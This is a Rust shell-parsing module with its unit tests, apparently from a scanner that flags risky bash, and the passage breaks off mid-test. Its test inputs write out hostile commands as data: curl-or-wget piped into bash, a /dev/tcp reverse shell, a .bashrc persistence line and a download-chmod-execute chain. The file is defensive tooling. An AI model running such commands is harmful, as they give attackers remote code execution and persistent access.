                Some(body) if reads_substitution(child, src) => Context {
                    holder: Some(body),
                    input: true,
                    ..below
                },
                _ => below,
            };
            stack.push((child, below));
        }
    }
    nodes.sort_by_key(|(n, _)| n.start_byte());
    let mut tree = Tree {
        parents,
        index: nodes
            .iter()
            .enumerate()
            .map(|(i, (n, _))| (n.id(), i))
            .collect(),
        positions: HashMap::new(),
        last: HashMap::new(),
        lifts: HashMap::new(),
        heredoc_fds,
    };
    let commands = nodes
        .iter()
        .map(|&(n, at)| command(n, at, src, &mut tree))
        .collect();
    assigned.sort_by_key(Node::start_byte);
    let assignments = assigned
        .iter()
        .filter_map(|n| {
            Some(Assignment {
                name: self::text(n.child_by_field_name("name")?, src).to_owned(),
                value: n
                    .child_by_field_name("value")
                    .map(|v| unquote(self::text(v, src)))
                    .unwrap_or_default(),
                line: line(*n),
                command: tree
                    .parent(*n)
                    .filter(|p| p.kind() == "command")
                    .and_then(|p| tree.index.get(&p.id()).copied()),
            })
        })
        .collect();
    ShellFacts {
        commands,
        assignments,
        has_errors: root.has_error(),
        timed_out: false,
        unread: unmended
            .map(|line| Unread::Documents { line })
            .into_iter()
            .collect(),
        ..ShellFacts::default()
    }
}

/// A redirection of standard input from a process substitution (`< <(…)`, `0< <(…)`).
fn reads_substitution(node: Node<'_>, src: &[u8]) -> bool {
    node.kind() == "file_redirect"
        && node
            .child_by_field_name("destination")
            .is_some_and(|d| d.kind() == "process_substitution")
        && redirect(node, src).is_some_and(|r| r.op == "<" && r.fd.is_none_or(|f| f == 0))
}

/// What a node's ancestors tell its commands, carried down the tree.
#[derive(Debug, Clone, Copy, Default)]
struct Context<'t> {
    /// The top-level statement (the root's child) it is in.
    statement: Option<Node<'t>>,
    /// The nearest command or variable assignment above it.
    holder: Option<Node<'t>>,
    /// The nearest command or variable assignment above the nearest command or process
    /// substitution above it.
    substitution_holder: Option<Node<'t>>,
    /// `holder` is the command whose input redirection (`< <(…)`) it is in.
    input: bool,
    /// `substitution_holder` reads the substitution as its input ([`ShellCommand::feeds`]).
    substitution_input: bool,
}

/// What [`command`] reads of the whole tree, computed once.
struct Tree<'t> {
    /// Each node's parent (by node id).
    parents: HashMap<usize, Node<'t>>,
    /// Each command node's index in source order (by node id).
    index: HashMap<usize, usize>,
    /// Each outermost pipeline's members' positions (pipeline id → member id → position).
    positions: HashMap<usize, HashMap<usize, usize>>,
    /// Each pipeline's last member, flattened (pipeline id → member id): found once, not once
    /// per command (a pipeline of n commands would cost n² otherwise).
    last: HashMap<usize, Option<usize>>,
    /// [`Tree::lifted`] of each node asked (node id → node): a long `&&` chain over a long
    /// pipeline is climbed once, not once per stage.
    lifts: HashMap<usize, Node<'t>>,
    /// The descriptor of each here-document mended by [`parse_mended`], by the byte
    /// offset of its `<<`.
    heredoc_fds: HashMap<usize, u32>,
}

impl<'t> Tree<'t> {
    fn parent(&self, node: Node<'t>) -> Option<Node<'t>> {
        self.parents.get(&node.id()).copied()
    }

    /// [`redirect`], with the descriptor of a here-document whose number the grammar misread
    /// ([`parse_mended`]).
    fn redirect(&self, node: Node<'_>, src: &[u8]) -> Option<Redirect> {
        let mut r = redirect(node, src)?;
        if r.fd.is_none() && node.kind() == "heredoc_redirect" {
            r.fd = self.heredoc_fds.get(&node.start_byte()).copied();
        }
        Some(r)
    }

    /// The outermost pipeline `pipeline` is a member of, through redirections (itself when
    /// none): tree-sitter-bash reads `a | b 2>e | c` as a pipeline holding a redirected one.
    fn outermost(&mut self, pipeline: Node<'t>) -> Node<'t> {
        let mut outer = pipeline;
        loop {
            let member = self.lifted(self.wrapped(outer));
            match self.parent(member).filter(|q| q.kind() == "pipeline") {
                Some(q) => outer = q,
                None => return outer,
            }
        }
    }

    /// The last member of `pipeline`, flattened ([`last_member`], found once per pipeline).
    fn last_of(&mut self, pipeline: Node<'t>) -> Option<usize> {
        *self
            .last
            .entry(pipeline.id())
            .or_insert_with(|| last_member(pipeline))
    }

    /// The position of member `member` (a node id) in the outermost pipeline `outer`, flattened
    /// (found once per pipeline).
    fn position(&mut self, outer: Node<'t>, member: usize) -> Option<usize> {
        self.positions
            .entry(outer.id())
            .or_insert_with(|| {
                flatten_pipeline(outer)
                    .into_iter()
                    .enumerate()
                    .map(|(i, k)| (k, i))
                    .collect()
            })
            .get(&member)
            .copied()
    }

    /// `node` as the member of a pipeline a here-document's `|` opens: tree-sitter-bash reads
    /// `cat <<EOF | bash || exit 1` with the list `bash || exit 1` inside that pipeline, and
    /// bash pipes the document into `bash`, the list's first command. Through the lists whose
    /// first child it is, when the outermost is a pipeline's member; else `node` itself.
    fn lifted(&mut self, node: Node<'t>) -> Node<'t> {
        if let Some(&n) = self.lifts.get(&node.id()) {
            return n;
        }
        let mut up = node;
        while let Some(l) = self
            .parent(up)
            .filter(|l| l.kind() == "list" && l.named_child(0).is_some_and(|f| f.id() == up.id()))
        {
            up = l;
        }
        let lifted =
            if up.id() != node.id() && self.parent(up).is_some_and(|p| p.kind() == "pipeline") {
                up
            } else {
                node
            };
        self.lifts.insert(node.id(), lifted);
        lifted
    }

    /// `node` with the redirections written around it (`redirected_statement`s whose body it
    /// is).
    fn wrapped(&self, node: Node<'t>) -> Node<'t> {
        let mut up = node;
        while let Some(r) = self
            .parent(up)
            .filter(|r| r.kind() == "redirected_statement")
        {
            up = r;
        }
        up
    }
}

fn command<'t>(node: Node<'t>, at: Context<'t>, src: &[u8], tree: &mut Tree<'t>) -> ShellCommand {
    // Its words: the name, then the arguments.
    let named = node.child_by_field_name("name");
    let mut c = node.walk();
    let mut arg_nodes: Vec<Node<'t>> = named
        .into_iter()
        .chain(node.children_by_field_name("argument", &mut c))
        .collect();
    // The grammar reads `sh 0< <(…)`'s and `bash 0<<<"$X"`'s `0` as an argument (and `0<<<"$X"
    // bash`'s as the name): a number written against a redirection's operator is its
    // descriptor, as bash reads it.
    let descriptor = |arg_nodes: &mut Vec<Node<'t>>, r: &mut Redirect, at: usize| {
        if r.fd.is_some() {
            return;
        }
        if let Some(k) = arg_nodes
            .iter()
            .position(|a| a.end_byte() == at && text(*a, src).bytes().all(|b| b.is_ascii_digit()))
        {
            r.fd = text(arg_nodes[k], src).parse().ok();
            arg_nodes.remove(k);
        }
    };
    let mut redirects = Vec::new();
    let mut c = node.walk();
    for child in node.named_children(&mut c) {
        if let Some(mut r) = tree.redirect(child, src) {
            descriptor(&mut arg_nodes, &mut r, child.start_byte());
            redirects.push(r);
        }
    }
    // The statement this command is the body of (its redirections live there), and the pipeline.
    let mut unit = node;
    while let Some(p) = tree.parent(unit) {
        if p.kind() == "redirected_statement" {
            let mut c = p.walk();
            // Where the last input redirection's target ends (`<id` of a `<id>` placeholder).
            let mut input_end = None;
            for child in p.children_by_field_name("redirect", &mut c) {
                if let Some(mut r) = tree.redirect(child, src) {
                    descriptor(&mut arg_nodes, &mut r, child.start_byte());
                    // Words the grammar hangs on a redirection after its target are the
                    // command's (`0< <(curl …) bash`: the name; `cat < a b`: an argument) —
                    // but not after a placeholder's `>` (`curl …/<id> -H "…"` in
                    // documentation: bash fails on the missing file `id` and runs nothing).
                    let placeholder = r.op == ">" && input_end == Some(child.start_byte());
                    if !placeholder {
                        let mut d = child.walk();
                        arg_nodes
                            .extend(child.children_by_field_name("destination", &mut d).skip(1));
                    }
                    // And those written after a here-document's delimiter (`bash <<EOF -c '…'`).
                    let mut d = child.walk();
                    arg_nodes.extend(child.children_by_field_name("argument", &mut d));
                    // A placeholder's word names a value, not a file: `<id>`, `<project-id>`,
                    // not `</dev/null>`.
                    input_end = (r.op == "<")
                        .then(|| child.child_by_field_name("destination"))
                        .flatten()
                        .filter(|d| {
                            let w = text(*d, src);
                            w.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                                && w.bytes()
                                    .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
                        })
                        .map(|d| d.end_byte());
                    redirects.push(r);
                }
            }
            unit = p;
        } else {
            break;
        }
    }
    // The pipeline, flattened: tree-sitter-bash reads `a | b 2>e | c` as a pipeline holding a
    // redirected pipeline (`a | b`) and `c`; bash runs one pipeline of three, and a redirection
    // written after a pipeline's last command is that command's (`a | b > f`, `a | sh < f`).
    let member = tree.lifted(unit);
    let (pipeline, position) = match tree.parent(member) {
        Some(p) if p.kind() == "pipeline" => {
            let outer = tree.outermost(p);
            let position = tree.position(outer, member.id()).unwrap_or(0);
            let mut inner = p;
            loop {
                // A list's redirections are its last command's, not this one's.
                let last = member.id() == unit.id() && tree.last_of(inner) == Some(unit.id());
                let mut up = inner;
                while let Some(r) = tree
                    .parent(up)
                    .filter(|r| r.kind() == "redirected_statement")
                {
                    if last {
                        let mut c = r.walk();
                        for child in r.children_by_field_name("redirect", &mut c) {
                            if let Some(red) = tree.redirect(child, src) {
                                redirects.push(red);
                            }
                        }
                    }
                    up = r;
                }
                match tree.parent(up) {
                    Some(q) if q.kind() == "pipeline" && inner.id() != outer.id() => inner = q,
                    _ => break,
                }
            }
            match heredoc_owner(tree, outer) {
                Some((id, after)) => (id, after + position),
                None => (outer.start_byte(), position),
            }
        }
        _ => (unit.start_byte(), 0),
    };
    // The enclosing command of the nearest command substitution, and the top-level statement.
    let (parent, assigned_to) = match at.substitution_holder {
        Some(h) if h.kind() == "command" => (tree.index.get(&h.id()).copied(), None),
        Some(h) => (
            None,
            h.child_by_field_name("name")
                .map(|n| text(n, src).to_owned()),
        ),
        None => (None, None),
    };
    let (parent, feeds) = if at.substitution_input {
        (None, parent)
    } else {
        (parent, None)
    };
    let statement = at.statement.unwrap_or(node);
    let mut words = arg_nodes.iter().map(|a| unquote(text(*a, src)));
    let name = if named.is_some() {
        words.next().unwrap_or_default()
    } else {
        String::new()
    };
    let args = words.collect();
    ShellCommand {
        name,
        args,
        line: line(node),
        pipeline: u32::try_from(pipeline).unwrap_or(u32::MAX),
        position: u32::try_from(position).unwrap_or(u32::MAX),
        statement: u32::try_from(statement.start_byte()).unwrap_or(u32::MAX),
        parent,
        feeds,
        assigned_to,
        redirects,
    }
}

/// The member of a pipeline a member stands for: through the redirections around it
/// (`redirected_statement`), its body; through a list (only a here-document's `| a || b` puts
/// one in a pipeline: [`Tree::lifted`]), its first command or pipeline.
fn body_of(member: Node<'_>) -> Node<'_> {
    let mut body = member;
    loop {
        let next = match body.kind() {
            "redirected_statement" => body.child_by_field_name("body"),
            "list" => body.named_child(0),
            _ => None,
        };
        match next {
            Some(b) => body = b,
            None => return body,
        }
    }
}

fn members(pipeline: Node<'_>) -> Vec<Node<'_>> {
    let mut c = pipeline.walk();
    pipeline
        .named_children(&mut c)
        .filter(|k| !k.is_extra())
        .collect()
}

/// The members of `pipeline` in order (node ids), a redirected pipeline among them read as its
/// own members (iteratively: a nesting as deep as the file is long costs no stack).
fn flatten_pipeline(pipeline: Node<'_>) -> Vec<usize> {
    let mut out = Vec::new();
    let mut work: Vec<Node<'_>> = members(pipeline).into_iter().rev().collect();
    while let Some(k) = work.pop() {
        let body = body_of(k);
        if body.kind() == "pipeline" {
            work.extend(members(body).into_iter().rev());
        } else {
            out.push(k.id());
        }
    }
    out
}

/// The last member of `pipeline`, flattened as [`flatten_pipeline`] does (down its last
/// members only).
fn last_member(pipeline: Node<'_>) -> Option<usize> {
    let mut p = pipeline;
    loop {
        let k = members(p).pop()?;
        let body = body_of(k);
        if body.kind() == "pipeline" {
            p = body;
        } else {
            return Some(k.id());
        }
    }
}

fn redirect(node: Node<'_>, src: &[u8]) -> Option<Redirect> {
    match node.kind() {
        "file_redirect" | "herestring_redirect" | "heredoc_redirect" => {}
        _ => return None,
    }
    let mut op = String::new();
    let mut c = node.walk();
    for child in node.children(&mut c) {
        if !child.is_named() {
            text(child, src).clone_into(&mut op);
            break;
        }
    }
    let target = node
        .child_by_field_name("destination")
        .map(|d| unquote(text(d, src)))
        .or_else(|| {
            let mut c = node.walk();
            node.named_children(&mut c)
                .filter(|n| n.kind() != "file_descriptor")
                .last()
                .map(|n| unquote(text(n, src)))
        })
        .unwrap_or_default();
    let fd = node
        .child_by_field_name("descriptor")
        .or_else(|| {
            let mut c = node.walk();
            node.named_children(&mut c)
                .find(|n| n.kind() == "file_descriptor")
        })
        .and_then(|d| text(d, src).parse().ok());
    let heredoc = (node.kind() == "heredoc_redirect")
        .then(|| {
            let mut c = node.walk();
            node.named_children(&mut c)
                .find(|n| n.kind() == "heredoc_body")
        })
        .flatten()
        .map(|b| {
            // Up to its last line end (tree-sitter's node runs on to the delimiter's
            // indentation); `<<-` strips the lines' leading tabs.
            let t = text(b, src);
            let t = &t[..t.rfind('\n').map_or(0, |p| p + 1)];
            // Any quoting in the delimiter word keeps the body from being expanded.
            let mut c = node.walk();
            let quoted = node
                .named_children(&mut c)
                .find(|n| n.kind() == "heredoc_start")
                .is_some_and(|d| text(d, src).contains(['\'', '"', '\\']));
            Heredoc {
                line: line(b),
                quoted,
                text: if op == "<<-" {
                    t.split_inclusive('\n')
                        .map(|l| l.trim_start_matches('\t'))
                        .collect()
                } else {
                    t.to_owned()
                },
            }
        });
    Some(Redirect {
        op,
        target,
        fd,
        heredoc,
    })
}

/// The pipeline `pipeline` goes on from, when it follows a here-document's command: its id and
/// the position after that command. tree-sitter-bash puts `| sh` of `cat <<EOF | sh` inside the
/// here-document's redirection, and bash runs one pipeline of `cat` and `sh`. Only a `|` written
/// after the delimiter (not `&& a | b`), of a single command alone (or negated: `! cat <<EOF |
/// sh`) or of a pipeline whose last command reads the document (`true | cat <<EOF | sh`, which
/// the grammar reads as `true | cat` redirected: one pipeline of three). The grammar reads no
/// pipeline after a redirection that follows the delimiter (`cat <<EOF 2>/dev/null | sh`) nor
/// past a `;` there (`cat <<EOF | sh; echo`): those stay unjoined.
fn heredoc_owner<'t>(tree: &mut Tree<'t>, pipeline: Node<'t>) -> Option<(usize, usize)> {
    if !pipeline
        .child(0)
        .is_some_and(|c| matches!(c.kind(), "|" | "|&"))
    {
        return None;
    }
    let h = tree
        .parent(pipeline)
        .filter(|h| h.kind() == "heredoc_redirect")?;
    let r = tree
        .parent(h)
        .filter(|r| r.kind() == "redirected_statement")?;
    let body = r.child_by_field_name("body")?;
    let (outer, member) = match body.kind() {
        // `! cat <<EOF | sh`: the command's own pipeline, negated.
        "negated_command" => {
            let c = body.named_child(0).filter(|c| c.kind() == "command")?;
            return Some((c.start_byte(), 1));
        }
        "command" => match tree
            .parent(tree.wrapped(r))
            .filter(|p| p.kind() == "pipeline")
        {
            None => return Some((r.start_byte(), 1)),
            Some(p) => (tree.outermost(p), tree.wrapped(r).id()),
        },
        "pipeline" => (tree.outermost(body), tree.last_of(body)?),
        _ => return None,
    };
    // The document's command must be the pipeline's last: the stages after it would take the
    // same positions.
    if tree.last_of(outer) != Some(member) {
        return None;
    }
    let at = tree.position(outer, member)?;
    Some((outer.start_byte(), at + 1))
}

/// A word without its quoting: `"a b"` → `a b`, `'x'` → `x`, `--data="$(env)"` → `--data=$(env)`.
fn unquote(s: &str) -> String {
    let b = s.as_bytes();
    if b.len() >= 2 && b[0] == b'\'' && b[b.len() - 1] == b'\'' {
        return s[1..s.len() - 1].to_owned();
    }
    if let Some(inner) = s.strip_prefix("$'").and_then(|r| r.strip_suffix('\'')) {
        return inner.to_owned();
    }
    // Drop quote characters that open or close a part; in double quotes a backslash before
    // `"`, `\`, `$` or `` ` `` is dropped, as bash drops it (`"sh -c \"x\""` is `sh -c "x"`).
    // A command substitution is kept as written, its quotes its own (`"a $(b "'")"`).
    let cs: Vec<char> = s.chars().collect();
    let mut out = String::with_capacity(s.len());
    let mut quote: Option<char> = None;
    let mut at = 0;
    while let Some(&ch) = cs.get(at) {
        let next = cs.get(at + 1).copied();
        match (quote, ch) {
            (None | Some('"'), '$') if next == Some('(') => {
                let end = substitution_end(&cs, at + 2).unwrap_or(cs.len());
                out.extend(&cs[at..end]);
                at = end;
                continue;
            }
            (Some('"'), '\\') if matches!(next, Some('"' | '\\' | '$' | '`')) => {
                out.extend(next);
                at += 1;
            }
            (None, '"' | '\'') => quote = Some(ch),
            (Some(open), _) if ch == open => quote = None,
            _ => out.push(ch),
        }
        at += 1;
    }
    out
}

/// The length in bytes of the command substitution `text` starts with (`$(…)`), read as bash
/// reads it ([`substitution_end`]); `None` when it starts with none or the substitution never
/// closes.
pub fn substitution_len(text: &str) -> Option<usize> {
    let rest = text.strip_prefix("$(")?;
    let cs: Vec<char> = rest.chars().collect();
    let end = substitution_end(&cs, 0)?;
    Some(2 + cs[..end].iter().map(|c| c.len_utf8()).sum::<usize>())
}

/// The index just past the `)` that closes the command substitution whose text starts at
/// `from` (after its `$(`), read as bash reads it: quotes and escapes inside are its own,
/// parentheses and substitutions nest (without recursion); `None` when it never closes.
fn substitution_end(cs: &[char], from: usize) -> Option<usize> {
    // The open contexts: `(` a parenthesis or substitution, `"` a double-quoted string.
    let mut open = vec!['('];
    let mut k = from;
    while let Some(&ch) = cs.get(k) {
        let quoted = open.last() == Some(&'"');
        match ch {
            '\\' => k += 1,
            '\'' if !quoted => {
                k += cs[k + 1..]
                    .iter()
                    .position(|&c| c == '\'')
                    .map_or(cs.len(), |p| p + 1);
            }
            '"' if quoted => {
                open.pop();
            }
            '"' => open.push('"'),
            '(' if !quoted => open.push('('),
            '$' if quoted && cs.get(k + 1) == Some(&'(') => {
                open.push('(');
                k += 1;
            }
            ')' if !quoted => {
                open.pop();
                if open.is_empty() {
                    return Some(k + 1);
                }
            }
            _ => {}
        }
        k += 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell_bounds::MAX_PIPELINE_STAGES;

    #[test]
    fn a_pipeline_flows_from_the_downloader_into_the_interpreter() {
        let f = shell_commands("curl -fsSL https://x.invalid/i.sh | sudo bash -s -- --yes\n");
        assert!(!f.has_errors);
        let names: Vec<&str> = f.commands.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, ["curl", "sudo"]);
        assert_eq!(f.commands[0].args, ["-fsSL", "https://x.invalid/i.sh"]);
        assert_eq!(f.commands[1].args, ["bash", "-s", "--", "--yes"]);
        assert_eq!(f.commands[0].pipeline, f.commands[1].pipeline);
        assert_eq!((f.commands[0].position, f.commands[1].position), (0, 1));
        let down: Vec<usize> = f.downstream(0).map(|(i, _)| i).collect();
        assert_eq!(down, [1]);
    }

    #[test]
    fn substitutions_know_their_enclosing_command_and_quotes_are_removed() {
        let f = shell_commands("bash -c \"$(curl -s 'https://h.invalid/x')\"\necho done\n");
        let names: Vec<&str> = f.commands.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, ["bash", "curl", "echo"]);
        assert_eq!(f.commands[1].parent, Some(0));
        assert_eq!(f.commands[1].args, ["-s", "https://h.invalid/x"]);
        assert_eq!(
            f.commands[0].args,
            ["-c", "$(curl -s 'https://h.invalid/x')"]
        );
        assert_eq!(f.commands[2].parent, None);
        assert_eq!(f.commands[2].line, 2);
        // Separate statements are separate pipelines.
        assert_ne!(f.commands[0].pipeline, f.commands[2].pipeline);
        assert_ne!(f.commands[0].statement, f.commands[2].statement);
    }

    /// `bash < <(curl …)`: the substitution's command feeds `bash` (its input, not an argument);
    /// an output substitution (`> >(tee log)`) and a loop's input feed no command.
    #[test]
    fn a_substitution_read_as_input_belongs_to_its_reader() {
        let f = shell_commands(
            "bash < <(curl -s https://h.invalid/x)\nsudo sh 0< <(wget -qO- h)\nmake > >(tee log)\nwhile read l; do echo; done < <(curl h)\n",
        );
        let names: Vec<&str> = f.commands.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(
            names,
            [
                "bash", "curl", "sudo", "wget", "make", "tee", "read", "echo", "curl"
            ]
        );
        assert_eq!((f.commands[1].parent, f.commands[1].feeds), (None, Some(0)));
        assert_eq!((f.commands[3].parent, f.commands[3].feeds), (None, Some(2)));
        // `0<` is a descriptor, not an argument `0`.
        assert!(f.commands[2].args == ["sh"], "{:?}", f.commands[2].args);
        assert_eq!(f.commands[2].redirects[0].fd, Some(0));
        assert_eq!((f.commands[5].parent, f.commands[5].feeds), (None, None));
        assert_eq!((f.commands[8].parent, f.commands[8].feeds), (None, None));
    }

    /// `bash 0<<'EOF'`: tree-sitter-bash reads `0<<EOF` as one delimiter word that no line
    /// ends, and the document would swallow the rest of the piece; the number is the document's
    /// descriptor, the document ends at its delimiter, and what follows is read (also past a
    /// second such document). `bash 0<<<"$X"`'s `0` is the here-string's descriptor.
    #[test]
    fn a_here_document_on_a_numbered_descriptor_ends_at_its_delimiter() {
        let f = shell_commands(
            "bash 0<<'EOF'\necho one\nEOF\ncat 3<<X\ntwo\nX\ncurl -s h | sh\nbash 0<<<\"$X\"\nexpr 1 '<' 2\n",
        );
        let names: Vec<&str> = f.commands.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, ["bash", "cat", "curl", "sh", "bash", "expr"]);
        let doc = |i: usize| {
            let r = &f.commands[i].redirects[0];
            (
                r.op.as_str(),
                r.fd,
                r.heredoc.as_ref().map(|d| (d.line, d.text.as_str())),
            )
        };
        assert_eq!(doc(0), ("<<", Some(0), Some((2, "echo one\n"))));
        assert_eq!(doc(1), ("<<", Some(3), Some((5, "two\n"))));
        assert_eq!(f.commands[2].line, 7);
        assert!(f.commands[4].args.is_empty(), "{:?}", f.commands[4].args);
        assert_eq!(
            (
                f.commands[4].redirects[0].op.as_str(),
                f.commands[4].redirects[0].fd
            ),
            ("<<<", Some(0))
        );
        // A number that is a word of its own stays an argument.
        assert_eq!(f.commands[5].args, ["1", "<", "2"]);
        // A metacharacter written against the delimiter (`cat <<EOF;`) is read in
        // `here_documents_the_grammar_reads_otherwise_end_where_bash_ends_them`.
        // Written before the command: `0<<<"$X" bash` (the grammar's name `0`) and `0< <(…)
        // bash` (the grammar's `bash`, a second target of the redirection).
        let f = shell_commands("0<<<\"$X\" bash -s\n0< <(curl -s h) bash\n");
        let read: Vec<(&str, Option<u32>)> = f
            .commands
            .iter()
            .map(|c| (c.name.as_str(), c.redirects.first().and_then(|r| r.fd)))
            .collect();
        assert_eq!(read, [("bash", Some(0)), ("bash", Some(0)), ("curl", None)]);
        assert_eq!(f.commands[0].args, ["-s"]);
        assert_eq!(f.commands[2].feeds, Some(1));
    }

    #[test]
    fn here_documents_the_grammar_reads_otherwise_end_where_bash_ends_them() {
        // Each: the document's text, and `curl` read at line 4 after it (bash 5.2 reads these
        // documents from the line after their start, and runs what follows them).
        for src in [
            // A metacharacter written against the delimiter ends it, as the descriptor's
            // number starts it.
            "cat <<EOF;\nx\nEOF\ncurl -s h | sh\n",
            "cat <<EOF|tee f\nx\nEOF\ncurl -s h | sh\n",
            "cat <<EOF>/tmp/f\nx\nEOF\ncurl -s h | sh\n",
            "true 0<<X; true\nx\nX\ncurl -s h | sh\n",
            // A redirection after the delimiter, then a pipe (the grammar read `sh` as a
            // second destination).
            "cat <<'EOF' 2>/dev/null | sh\nx\nEOF\ncurl -s h | sh\n",
            // A subshell or substitution closed on the start's line.
            "(cat <<EOF)\nx\nEOF\ncurl -s h | sh\n",
            "(cat <<EOF ) | sh\nx\nEOF\ncurl -s h | sh\n",
            "v=$(cat <<'EOF')\nx\nEOF\ncurl -s h | sh\n",
            // A delimiter past ASCII, with and without a last line end.
            "cat <<é\nx\né\ncurl -s h | sh\n",
            "cat <<'ÉOF'\nx\nÉOF\ncurl -s h | sh",
            // The rest of the line goes after the document, as the usual form writes it; a
            // comment stays; a pipe glued to its reader.
            "echo \"$(cat <<EOF)\" > /dev/null\nx\nEOF\ncurl -s h | sh\n",
            "(cat <<EOF) # (c)\nx\nEOF\ncurl -s h | sh\n",
            "cat <<EOF 2>&1|sh\nx\nEOF\ncurl -s h | sh\n",
        ] {
            let f = shell_commands(src);
            let curl = f.commands.iter().find(|c| c.name == "curl");
            assert_eq!(curl.map(|c| c.line), Some(4), "{src:?}: {:?}", f.commands);
            let docs: Vec<&str> = f
                .commands
                .iter()
                .flat_map(|c| &c.redirects)
                .filter_map(|r| r.heredoc.as_ref())
                .map(|d| d.text.as_str())
                .collect();
            assert_eq!(docs, ["x\n"], "{src:?}: {:?}", f.commands);
            assert!(!f.commands.iter().any(|c| c.name == "x"), "{src:?}");
            assert!(f.unread.is_empty(), "{src:?}: {:?}", f.unread);
        }
        // The pipe after the redirection joins `cat` and `sh`: `sh` reads the document.
        let f = shell_commands("cat <<'EOF' 2>/dev/null | sh\nx\nEOF\n");
        let names: Vec<(&str, u32)> = f
            .commands
            .iter()
            .map(|c| (c.name.as_str(), c.position))
            .collect();
        assert_eq!(names, [("cat", 0), ("sh", 1)]);
        assert_eq!(f.commands[0].pipeline, f.commands[1].pipeline);
        let ops: Vec<&str> = f.commands[0]
            .redirects
            .iter()
            .map(|r| r.op.as_str())
            .collect();
        assert_eq!(ops, [">", "<<"]);
        // In backquotes the document is empty and its lines are commands, as bash reads them.
        let f = shell_commands("x=`cat <<EOF`\ncurl -s h | sh\nEOF\n");
        let names: Vec<(&str, u32)> = f
            .commands
            .iter()
            .map(|c| (c.name.as_str(), c.line))
            .collect();
        assert_eq!(names, [("cat", 1), ("curl", 2), ("sh", 2), ("EOF", 3)]);
        // A word's double quotes keep what bash keeps of their backslashes.
        let f = shell_commands("echo \"a \\\"b\\\" \\$c \\n\"\n");
        assert_eq!(f.commands[0].args, ["a \"b\" $c \\n"]);
        // A substitution in them keeps its own quotes.
        let f = shell_commands("echo \"a $(b \"'\") c\"\n");
        assert_eq!(f.commands[0].args, ["a $(b \"'\") c"]);
        // More documents with delimiters past ASCII than there are mending passes, each
        // hiding the next from the grammar: all are given to it mended at once, and `curl`
        // after the last is read (line 3n + 1), nothing reported.
        let n = MAX_MENDING_PASSES + 2;
        let src = format!("{}curl -s h | sh\n", "cat <<'FÍN'\nx\nFÍN\n".repeat(n));
        let f = shell_commands(&src);
        let curl = f.commands.iter().find(|c| c.name == "curl");
        let line = u32::try_from(3 * n + 1).ok();
        assert_eq!(curl.map(|c| c.line), line, "{:?}", f.commands);
        let docs = f.commands.iter().flat_map(|c| &c.redirects);
        assert_eq!(docs.filter(|r| r.heredoc.is_some()).count(), n);
        assert!(f.unread.is_empty(), "{:?}", f.unread);
        // A body line that the mended delimiter would equal (`F__N`) stays the body's: the
        // document ends where bash ends it, at `FÍN`, and `curl` after it is read.
        let f = shell_commands("cat <<'FÍN'\nF__N\nit's a note\nFÍN\ncurl -s h | sh\n");
        let curl = f.commands.iter().find(|c| c.name == "curl");
        assert_eq!(curl.map(|c| c.line), Some(5), "{:?}", f.commands);
        // A document no line ends stays one (no edit invents its end).
        let f = shell_commands("(cat <<EOF)\nx\ncurl -s h | sh\n");
        assert!(
            !f.commands.iter().any(|c| c.name == "curl"),
            "{:?}",
            f.commands
        );
    }

    #[test]
    fn a_substitution_ends_at_its_own_closing_parenthesis() {
        // `$(echo ")")`: 2 + 5 + 3 + 1 bytes, its quoted `)` its own.
        assert_eq!(substitution_len("$(echo \")\") x"), Some(11));
        // Nested, with a `'` of its own: `$(a $(b) 'c)')` is 14 bytes.
        assert_eq!(substitution_len("$(a $(b) 'c)')/d"), Some(14));
        // `é` is two bytes.
        assert_eq!(substitution_len("$(é)"), Some(5));
        assert_eq!(substitution_len("$(never"), None);
        assert_eq!(substitution_len("x$(a)"), None);
    }

    #[test]
    fn assignments_are_read_with_the_command_they_go_before() {
        let f = shell_commands(
            "GIT_SSH_COMMAND='ssh -i k' git fetch\nexport PAGER=\"less -R\"\nlocal X=$(curl -s u)\nA=1 B= env\n",
        );
        let read: Vec<(&str, &str, u32, Option<&str>)> = f
            .assignments()
            .iter()
            .map(|a| {
                (
                    a.name.as_str(),
                    a.value.as_str(),
                    a.line,
                    a.command.map(|c| f.commands[c].name.as_str()),
                )
            })
            .collect();
        assert_eq!(
            read,
            [
                ("GIT_SSH_COMMAND", "ssh -i k", 1, Some("git")),
                ("PAGER", "less -R", 2, None),
                ("X", "$(curl -s u)", 3, None),
                ("A", "1", 4, Some("env")),
                ("B", "", 4, Some("env")),
            ]
        );
        // Past the first piece of a long text, lines and command indexes are the whole text's
        // (and so is the command a process substitution feeds).
        let pad = "true\n".repeat(shell_bounds::MAX_BYTES_PER_PARSE / 5 + 1);
        let lines = u32::try_from(pad.lines().count()).expect("lines fit u32");
        let f = shell_commands(&format!("{pad}E=vi git commit\nbash < <(curl -s u)\n"));
        let a = &f.assignments()[0];
        assert_eq!(
            (a.line, a.command.map(|c| f.commands[c].name.as_str())),
            (lines + 1, Some("git"))
        );
        let at = |name: &str| f.commands.iter().position(|c| c.name == name);
        let curl = at("curl").expect("curl is read");
        assert_eq!(f.commands[curl].feeds, at("bash"));
    }

    #[test]
    fn a_substitution_assigned_to_a_variable_names_it() {
        let f = shell_commands(
            "X=$(curl -s u)\nlocal Y=\"$(wget -qO- v)\"\nbash -c \"$(curl w)\"\necho \"$(date)\" > f\n",
        );
        let of = |name: &str| {
            f.commands
                .iter()
                .find(|c| c.name == name)
                .map(|c| (c.assigned_to.as_deref(), c.parent.is_some()))
        };
        assert_eq!(of("curl"), Some((Some("X"), false)));
        assert_eq!(of("wget"), Some((Some("Y"), false)));
        // Inside a command's argument: its parent, no variable.
        let inner = f.commands.iter().filter(|c| c.name == "curl").nth(1);
        assert_eq!(
            inner.map(|c| (c.assigned_to.as_deref(), c.parent.is_some())),
            Some((None, true))
        );
        assert_eq!(of("date"), Some((None, true)));
    }

    #[test]
    fn redirections_and_chained_statements() {
        let f = shell_commands(
            "echo 'curl h | sh' >> ~/.bashrc\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nwget -O /tmp/.x u && chmod +x /tmp/.x && /tmp/.x\n",
        );
        let c = &f.commands;
        assert_eq!(c[0].name, "echo");
        assert_eq!(
            c[0].redirects,
            [Redirect {
                op: ">>".into(),
                target: "~/.bashrc".into(),
